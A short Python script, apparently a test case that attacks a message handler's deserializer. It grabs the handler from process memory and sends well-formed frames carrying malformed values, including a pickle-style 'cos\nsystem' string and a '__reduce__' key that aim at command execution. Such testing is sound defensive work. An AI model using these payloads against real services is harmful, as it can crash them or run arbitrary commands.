# Attack: replies in the right form with tags, types and dtypes that do not exist
# Outcome: crashed
import gc
import random
import struct

handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")
VALUES = (
    b'["p","cos\\nsystem"]',
    b'["a","object",[1]]',
    b'["a","V8",[1]]',
    b'["a","float64",[-1,-1]]',
    b'["a","float64",[true]]',
    b'["x","datetime64"]',
    b'["f","0x1p99999"]',
    b'["i","3"]',
    b'["l",{"__reduce__":1}]',
    '["٣"]'.encode(),
    b" 1_000 ",
    b"nan",
    b"9" * 5000,
    b'{"a":1,"a":1}',
)


def relu(x):
    text = b'{"kind":"returned","value":' + random.choice(VALUES) + b"}"
    handler.send(struct.pack(">4sIQ", b"cnt1", len(text), 8) + text + b"\xff" * 8)
    return x
